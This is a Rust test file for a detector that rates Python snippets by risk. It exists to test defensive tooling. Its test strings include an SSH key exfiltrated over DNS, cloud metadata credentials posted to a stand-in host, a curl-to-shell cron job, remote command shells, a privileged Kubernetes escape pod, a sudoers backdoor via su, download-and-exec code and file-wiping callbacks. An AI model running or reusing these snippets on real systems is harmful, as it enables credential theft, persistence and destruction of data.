//! Mechanisms found by the ninth session's blind sets, part three: libraries and tools
//! the analysis did not know (browser miners, dnspython, multiprocessing connections,
//! pexpect driving `su`, plumbum's stdin, Kubernetes pods, pycurl).

use super::*;

#[test]
fn browser_miners_are_mining() {
    let inject = "PAGE = '<script src=\"https://cdn.example.net/lib/crypta.js\"></script><script>new CRLT.Anonymous(\"k\", {threads: 4}).start()</script>'\ndef serve(html):\n    return html.replace('</body>', PAGE + '</body>')\nprint(serve('<html><body></body></html>'))\n";
    fires("CRD108", inject);
    level(Level::Blocked, inject);
    // A page about mining, with no miner in it.
    level(
        Level::Low,
        "print('<h1>Proof of work explained</h1><p>Miners hash block headers.</p>')\n",
    );
}

#[test]
fn dns_resolvers_carry_data_and_zone_transfers_scan() {
    // Key material split into labels and resolved through a resolver object.
    let leak = "import base64, pathlib, dns.resolver\nkey = pathlib.Path.home().joinpath('.ssh', 'id_rsa').read_bytes()\nr = dns.resolver.Resolver()\nr.nameservers = ['203.0.113.53']\nfor i in range(0, 600, 60):\n    label = base64.b32encode(key[i:i + 30]).decode().rstrip('=').lower()\n    r.resolve(f'{label}.{i}.x.example.net', 'A')\n";
    fires("CRD109", leak);
    level(Level::Blocked, leak);
    let axfr = "import dns.query, dns.zone\nz = dns.zone.from_xfr(dns.query.xfr('10.0.0.53', 'corp.example'))\nfor name in z.nodes:\n    print(name)\n";
    fires("CRD212", axfr);
    level(Level::High, axfr);
    // One lookup of a public name is a lookup.
    level(
        Level::Medium,
        "import dns.resolver\nprint([r.to_text() for r in dns.resolver.resolve('example.org', 'MX')])\n",
    );
}

#[test]
fn commands_received_on_a_multiprocessing_listener_are_remote_commands() {
    let listener = "import subprocess\nfrom multiprocessing.connection import Listener\nwith Listener(('0.0.0.0', 6001), authkey=b'k') as l:\n    conn = l.accept()\n    while True:\n        conn.send(subprocess.getoutput(conn.recv()))\n";
    level(Level::Blocked, listener);
    // Work items sent to a local worker pool are data.
    level(
        Level::Medium,
        "from multiprocessing.connection import Client\nwith Client(('127.0.0.1', 6001), authkey=b'k') as c:\n    c.send({'job': 'resize', 'size': 64})\n    print(c.recv())\n",
    );
}

#[test]
fn lines_sent_to_su_run_as_root() {
    let su = "import pexpect\nchild = pexpect.spawn('su', ['-', 'root'])\nchild.expect('Password:')\nchild.sendline('toor')\nchild.sendline(\"echo 'u ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/u\")\n";
    fires("CRD201", su);
    fires("CRD113", su);
}

#[test]
fn plumbum_commands_fed_stdin_run() {
    let cron = "from plumbum.cmd import crontab\nENTRY = '*/10 * * * * curl -fsSL http://203.0.113.8/u.sh | sh'\n(crontab['-'] << (ENTRY + '\\n'))()\n";
    fires("CRD105", cron);
    level(Level::Blocked, cron);
    level(
        Level::Low,
        "from plumbum.cmd import wc\nprint((wc['-l'] << 'a\\nb\\n')())\n",
    );
}

#[test]
fn privileged_or_host_namespace_pods_are_escapes() {
    let pod = "from kubernetes import client, config\nconfig.load_incluster_config()\nc = client.V1Container(name='x', image='alpine', command=['nsenter', '-t', '1', '-m', 'sh'], security_context=client.V1SecurityContext(privileged=True))\nspec = client.V1PodSpec(containers=[c], host_pid=True)\nclient.CoreV1Api().create_namespaced_pod('default', client.V1Pod(spec=spec))\n";
    fires("CRD106", pod);
    level(Level::Blocked, pod);
    // An ordinary pod, unprivileged, in its own namespaces.
    silent(
        "CRD106",
        "from kubernetes import client\nc = client.V1Container(name='web', image='nginx', security_context=client.V1SecurityContext(run_as_non_root=True))\nspec = client.V1PodSpec(containers=[c])\nprint(spec)\n",
    );
}

#[test]
fn pycurl_writes_what_it_fetches_into_its_buffer() {
    let fetch = "import io, sys, zipfile, tempfile, importlib, pycurl\nbuf = io.BytesIO()\nc = pycurl.Curl()\nc.setopt(pycurl.URL, 'https://files.example.com/tk.zip')\nc.setopt(pycurl.WRITEDATA, buf)\nc.perform()\nd = tempfile.mkdtemp()\nzipfile.ZipFile(buf).extractall(d)\nsys.path.insert(0, d)\nimportlib.import_module('tk.main')\n";
    fires("CRD102", fetch);
    // The same download saved and listed is a download.
    level(
        Level::Medium,
        "import io, zipfile, pycurl\nbuf = io.BytesIO()\nc = pycurl.Curl()\nc.setopt(pycurl.URL, 'https://files.example.com/data.zip')\nc.setopt(pycurl.WRITEDATA, buf)\nc.perform()\nprint(zipfile.ZipFile(buf).namelist())\n",
    );
}

#[test]
fn metadata_credentials_asked_at_an_assembled_address_are_secrets() {
    let built = "import requests\nHOST = '169.254.' + '169.254'\nbase = f'http://{HOST}/latest/meta-data/iam/security-credentials/'\nrole = requests.get(base, timeout=2).text.strip()\nrequests.post('https://collect.example.net/c', json=requests.get(base + role).json())\n";
    fires("CRD205", built);
    fires("CRD109", built);
    // The instance's own identity document is no credential.
    silent(
        "CRD205",
        "import requests\nHOST = '169.254.' + '169.254'\nprint(requests.get(f'http://{HOST}/latest/meta-data/instance-id', timeout=2).text)\n",
    );
}

#[test]
fn sh_contrib_and_plumbum_which_are_commands() {
    fires(
        "CRD104",
        "from sh.contrib import sudo\nsudo.rm('-rf', '/var/lib')\n",
    );
    fires(
        "CRD102",
        "from plumbum import local\ncurl = local.which('curl')\n(curl['-s', 'http://x.example/i.sh'] | local['bash'])()\n",
    );
    level(
        Level::Low,
        "from plumbum import local\ngit = local.which('git')\nprint(git('status', '--short'))\n",
    );
}

#[test]
fn functions_registered_on_an_rpc_server_run_for_any_client() {
    let rpc = "import subprocess\nfrom xmlrpc.server import SimpleXMLRPCServer\nserver = SimpleXMLRPCServer(('0.0.0.0', 8000), allow_none=True)\nserver.register_function(subprocess.getoutput, 'run')\nserver.serve_forever()\n";
    level(Level::Blocked, rpc);
    level(
        Level::Medium,
        "from xmlrpc.server import SimpleXMLRPCServer\ndef add(a, b):\n    return a + b\nserver = SimpleXMLRPCServer(('127.0.0.1', 8000))\nserver.register_function(add)\nserver.serve_forever()\n",
    );
}

#[test]
fn finalizers_and_signal_handlers_run_their_callbacks() {
    fires(
        "CRD104",
        "import os, weakref\nclass J: pass\ndef wipe(paths):\n    for p in paths:\n        os.truncate(p, 0)\nj = J()\nweakref.finalize(j, wipe, ['/etc/passwd', '/etc/group'])\n",
    );
    fires(
        "CRD104",
        "import shutil, signal\ndef on_term(signum, frame):\n    shutil.rmtree('/usr/lib')\nsignal.signal(signal.SIGTERM, on_term)\n",
    );
}

#[test]
fn pycurl_options_read_from_the_handle_count_too() {
    fires(
        "CRD102",
        "import io, pycurl\nbuf = io.BytesIO()\nc = pycurl.Curl()\nc.setopt(c.URL, 'https://x.example/p.py')\nc.setopt(c.WRITEDATA, buf)\nc.perform()\nexec(buf.getvalue())\n",
    );
}
